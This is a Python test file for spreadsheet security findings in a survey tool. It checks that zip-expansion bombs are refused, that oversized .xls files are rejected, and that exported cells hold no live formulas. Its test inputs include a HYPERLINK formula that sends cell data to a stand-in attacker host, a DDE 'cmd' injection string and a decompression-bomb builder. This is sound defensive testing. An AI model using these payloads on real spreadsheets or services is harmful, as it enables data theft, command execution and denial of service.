"""Security review findings on XLSForms (issue 9): expansion bombs (6) and live formulas in exports (7)."""
from __future__ import annotations

import io
import time
import zipfile

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select

from assessments import builder, xlsform
from assessments.models import Survey
from partnership.spreadsheets import formula_like

HYPERLINK = '=HYPERLINK("http://evil.example/steal?"&A1,"Click for the results")'


def _survey_count(db) -> int:
    return db.session.scalar(select(func.count()).select_from(Survey))


def _small_form() -> bytes:
    from tests.assessments.test_builder_and_xlsform import _workbook

    return _workbook([["type", "name", "label"], ["text", "q", "Question"]], [["list_name", "name", "label"]])


def _bomb(expanded_mb: int) -> bytes:
    """A valid XLSForm whose survey sheet XML is padded to inflate to `expanded_mb` megabytes."""
    source = zipfile.ZipFile(io.BytesIO(_small_form()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                with target.open(info.filename, "w") as handle:
                    head, tail = data.split(b"<sheetData>", 1)
                    handle.write(head + b"<sheetData>")
                    chunk = b" " * (1024 * 1024)
                    for _ in range(expanded_mb):
                        handle.write(chunk)
                    handle.write(tail)
            else:
                target.writestr(info, data)
    return out.getvalue()


def test_xlsx_that_expands_far_beyond_any_real_form_is_refused_before_parsing(app, db, group):
    data = _bomb(200)
    assert len(data) < 2 * 1024 * 1024  # small on the wire
    before = _survey_count(db)
    started = time.perf_counter()
    with pytest.raises(xlsform.XLSFormError, match="unpacks to"):
        xlsform.import_xlsform(data, group)
    assert time.perf_counter() - started < 2  # refused from the zip directory, not after parsing 200 MB
    assert _survey_count(db) == before


def test_oversized_xls_is_refused_before_parsing(app, db, group):
    # An OLE (.xls) file is not compressed: its own size bounds what the reader holds.
    data = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * (xlsform.MAX_FILE_BYTES + 1)
    with pytest.raises(xlsform.XLSFormError, match="too large"):
        xlsform.import_xlsform(data, group)


def test_xlsform_export_writes_no_live_formula_and_keeps_the_text(app, db, group):
    survey = builder.create_survey(group, title={"en": HYPERLINK}, languages=["en"])
    builder.add_question(survey, code="feel", type="single", label={"en": "+cmd|' /C calc'!A0"},
                         hint={"en": HYPERLINK},
                         config={"options": [{"value": "safe", "label": {"en": HYPERLINK}},
                                             {"value": "unsafe", "label": {"en": "@SUM(1+1)"}}]})
    data = xlsform.export_xlsform(survey)
    archive = zipfile.ZipFile(io.BytesIO(data))
    for name in archive.namelist():
        if name.startswith("xl/worksheets/"):
            assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
    workbook = load_workbook(io.BytesIO(data))
    cells = [c for sheet in workbook.worksheets for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert all(c.quotePrefix for c in cells if formula_like(c.value))
    # Read back, the texts are exactly what the planner typed (no apostrophe added).
    report = xlsform.import_xlsform(data, group)
    imported = report.survey
    assert imported.title["en"] == HYPERLINK
    question = imported.questions[0]
    assert question.hint["en"] == HYPERLINK and question.label["en"] == "+cmd|' /C calc'!A0"
    assert [o["label"]["en"] for o in question.config["options"]] == [HYPERLINK, "@SUM(1+1)"]


def test_data_exports_and_xlsforms_share_one_neutraliser():
    from assessments import exports
    from partnership import spreadsheets

    assert exports.inert is spreadsheets.inert
    assert spreadsheets.inert(HYPERLINK) == "'" + HYPERLINK and spreadsheets.inert("-5") == "-5"
